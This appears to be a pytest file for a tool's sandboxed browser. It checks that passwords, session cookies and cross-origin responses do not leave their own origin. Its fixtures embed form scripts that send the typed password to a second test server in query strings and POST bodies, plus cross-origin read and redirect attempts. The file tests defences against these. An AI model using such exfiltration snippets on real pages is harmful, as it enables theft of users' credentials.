"""What a page knows stays with it: the password with the form's own origin, cookies and answers with theirs."""

from __future__ import annotations

import asyncio
import ssl
from dataclasses import replace

import pytest

from reviewer.browse import Browser, NotShown, chromium
from reviewer.fetch import Door
from reviewer.model import Answer
from reviewer.settings import FormLogin, Network
from tests.browse.app import HTML, fixed
from tests.browse.looks import NETWORK
from tests.origin import Asked, Origin

pytestmark = [pytest.mark.anyio, pytest.mark.browser]

WORDS = "<p>Wash your hands, and ask your doctor about the rest of what is written here, and some more words.</p>"
FORM = WORDS + "<form FORM><input id=u name=u><input id=w name=w type=password><button>Go</button></form>"
LOUD = 'onsubmit="const s = (at, how) => fetch(at, how).catch(() => 0); SAYS; return false"'


def settings(origin: Origin, ca_file: str) -> Network:
    """The network with a login for that origin."""
    made = FormLogin("i", origin.url("").rstrip("/"), origin.url("/login"), "#u", "#w", "button", "reviewer", "hunter2")
    return replace(NETWORK, ca_file=ca_file, logins=(made,))


async def log_in(origin: Origin, ca_file: str, form: str) -> str:
    """What is said when nobody is let in by such a form."""
    origin._behaviours = {"/login": fixed(FORM.replace("FORM", form), HTML), **origin._behaviours}
    network = settings(origin, ca_file)
    async with Door(network, version="0") as door, Browser(door, network) as browser:
        with pytest.raises(NotShown) as said:
            await browser.log_in(network.logins[0])
    return str(said.value)


async def test_nothing_leaves_the_origin_of_a_filled_form(chromium_here: str, secure: tuple[ssl.SSLContext, str]) -> None:
    """A form and a script that would take the password elsewhere, or into an address of its own origin, reach nobody."""
    async with Origin({}, context=secure[0]) as other, Origin({}, context=secure[0]) as origin:
        says = f"s('{other.url('/a')}?' + w.value); s('{other.url('/b')}'); s('/c?' + w.value); s('/d')"
        await log_in(origin, secure[1], LOUD.replace("SAYS", says))
        assert other.connections == 0
        assert {asked.path for asked in origin.asked} >= {"/login", "/d"}
        assert "hunter2" not in "".join(asked.path for asked in origin.asked)


async def test_the_password_is_sent_once(chromium_here: str, secure: tuple[ssl.SSLContext, str]) -> None:
    """Of two forms with the password one leaves."""

    async def takes(asked: Asked) -> bool:
        await asked.reader.readexactly(int(asked.headers["content-length"]))
        await asked.answer()
        return True

    async with Origin({"/a": takes, "/b": takes}, context=secure[0]) as origin:
        says = "s('/a', {method: 'POST', body: w.value}); s('/b', {method: 'POST', body: w.value})"
        await log_in(origin, secure[1], LOUD.replace("SAYS", says))
        assert sum(asked.method == "POST" for asked in origin.asked) == 1


async def test_no_text_has_the_password(chromium_here: str, secure: tuple[ssl.SSLContext, str]) -> None:
    """What was refused is named without its query, and with no password in its path."""
    async with Origin({}, context=secure[0]) as origin:
        says = "s('/api?w=' + w.value, {method: 'PUT'}); s('/of/' + w.value, {method: 'PUT'})"
        said = await log_in(origin, secure[1], LOUD.replace("SAYS", says))
        assert "hunter2" not in said
        assert f"PUT {origin.url('/api')}?...: " in said
        assert f"PUT {origin.url('/of/***')}: " in said


async def test_cookies_stay_with_their_origin(chromium_here: str, secure: tuple[ssl.SSLContext, str]) -> None:
    """The session of a login goes to its own origin, and not to another port of its host: neither for its pages, nor where a page moves on."""

    async def session(asked: Asked) -> bool:
        await asked.reader.readexactly(int(asked.headers["content-length"]))
        await asked.answer("303 See Other", b"", "Set-Cookie: session=in; Path=/; HttpOnly; Secure", "Location: /")
        return True

    moved = f"{WORDS}<script src=/own.js></script>"
    script = fixed("1", "text/javascript")
    async with (
        Origin({"/x.js": script, "/own.js": script, "/moved": fixed(moved, HTML)}, context=secure[0]) as other,
        Origin({"/session": session, "/y.js": script}, context=secure[0]) as origin,
    ):
        page = f"{WORDS}<script src='{other.url('/x.js')}'></script><script src=/y.js></script>"
        leads = f"{WORDS}<script>location.href = '{other.url('/moved')}'</script>"
        origin._behaviours = {
            **origin._behaviours,
            "/": fixed(page, HTML),
            "/leads": fixed(leads, HTML),
            "/login": fixed(FORM.replace("FORM", "method=post action=/session"), HTML),
        }
        network = settings(origin, secure[1])
        async with Door(network, version="0") as door, Browser(door, network) as browser:
            assert "session=in" in await browser.log_in(network.logins[0])
            origin.asked.clear()
            for path in ("/", "/leads"):
                answer = await door.fetch(origin.url(path))
                assert isinstance(answer, Answer)
                await browser.show("site", answer, lambda url: url.startswith(origin.url("")))
        assert {"/x.js", "/moved", "/own.js"} <= {asked.path for asked in other.asked}
        assert all("cookie" not in asked.headers for asked in other.asked)
        assert [asked.headers.get("cookie") for asked in origin.asked if asked.path == "/y.js"] == ["session=in"]


async def told(network: Network, page: Origin, script: str) -> set[str]:
    """What a page tells its own server when that script runs in it."""
    page._behaviours = {**page._behaviours, "/": fixed(f"{WORDS}<script>const t = (w) => fetch('/told?' + w); {script}</script>", HTML)}
    async with Door(network, version="0") as door, Browser(door, network) as browser:
        answer = await door.fetch(page.url("/"))
        assert isinstance(answer, Answer)
        await browser.show("site", answer, lambda url: url.startswith(page.url("")))
    return {asked.path.partition("?")[2] for asked in page.asked if asked.path.startswith("/told")}


def reads(url: str, name: str) -> str:
    """A script that tells what it reads there, or that it may not."""
    return f"fetch('{url}').then((a) => a.text()).then((w) => t('{name}-' + w), () => t('{name}-not'));"


async def test_a_page_reads_what_it_may(chromium_here: str) -> None:
    """Of another origin a page reads what that one shares, and nothing else; a script of it runs all the same."""

    async def echoes(asked: Asked) -> bool:
        await asked.answer("200 OK", b"c", f"Access-Control-Allow-Origin: {asked.headers.get('origin', 'null')}")
        return True

    text = "text/plain"
    paths = {
        "/a": fixed("a", text),
        "/b": fixed("b", text, "Access-Control-Allow-Origin: *"),
        "/c": echoes,
        "/d": fixed("d", text, "Access-Control-Allow-Origin: https://example.org"),
        "/e": fixed("t('e-ran')", "text/javascript"),
    }
    async with Origin(paths) as other, Origin({}) as page:
        script = "".join(reads(other.url(f"/{name}"), name) for name in "abcd")
        script += f"const e = document.createElement('script'); e.src = '{other.url('/e')}'; document.body.append(e)"
        assert await told(NETWORK, page, script) == {"a-not", "b-b", "c-c", "d-not", "e-ran"}


async def test_a_redirect_speaks_for_nobody_else(chromium_here: str) -> None:
    """What a script asks its own origin for and another one answers is not read; a script from there runs, and sets no cookie here."""
    share = ("Access-Control-Allow-Origin: *", "Set-Cookie: theirs=1; Path=/")
    answers = {"/a": fixed("a", "text/plain", *share), "/b": fixed("t('b-' + document.cookie)", "text/javascript", *share)}
    async with Origin(answers) as other, Origin({"/near": fixed("near", "text/plain")}) as page:
        for name, to in (("/a", other.url("/a")), ("/b", other.url("/b")), ("/c", "/near")):
            page._behaviours = {**page._behaviours, name: fixed("", "text/plain", f"Location: {to}", status="302 Found")}
        script = reads("/a", "a") + reads("/c", "c")
        script += "const b = document.createElement('script'); b.src = '/b'; document.body.append(b)"
        assert await told(NETWORK, page, script) == {"a-not", "c-near", "b-"}


@pytest.mark.parametrize(
    ("status", "to", "says"),
    [
        ("403 Forbidden", "", "answers 403"),
        ("500 Oops", "", "answers 500"),
        ("303 See Other", "/nowhere", "answers 404"),
        ("303 See Other", "OTHER", "on another origin"),
        ("", "", "nothing leaves the origin of a login"),
    ],
)
async def test_who_is_refused_is_not_in(chromium_here: str, secure: tuple[ssl.SSLContext, str], status: str, to: str, says: str) -> None:
    """A form that is gone has let nobody in when it was not sent, was refused, or leads to a page that is not there or elsewhere."""

    async def answers(asked: Asked) -> bool:
        if asked.method == "POST":
            await asked.reader.readexactly(int(asked.headers["content-length"]))
        leads = (f"Location: {to.replace('OTHER', other.url('/'))}",) if to else ()
        await asked.answer(status, b"oops", "Content-Type: text/html", *leads)
        return True

    async with Origin({"/": fixed(WORDS, HTML)}, context=secure[0]) as other, Origin({"/session": answers}, context=secure[0]) as origin:
        said = await log_in(origin, secure[1], f"method=post action={'/session' if status else other.url('/session')}")
        assert says in said


async def test_memory_is_watched_on_after_an_error(chromium_here: str, monkeypatch: pytest.MonkeyPatch) -> None:
    """A browser that could not say once which processes it has is asked again."""
    from playwright.async_api import Error

    asked: list[object] = []

    async def processes(running: object) -> dict[str, list[int]]:
        asked.append(running)
        if len(asked) == 1:
            raise Error("Target closed")
        return {}

    class Running:
        def is_connected(self) -> bool:
            return len(asked) < 3

    monkeypatch.setattr(chromium, "processes", processes)
    async with Door(NETWORK, version="0") as door, asyncio.timeout(5):
        await Browser(door, NETWORK)._watch(Running())  # type: ignore[arg-type]
    assert len(asked) == 3
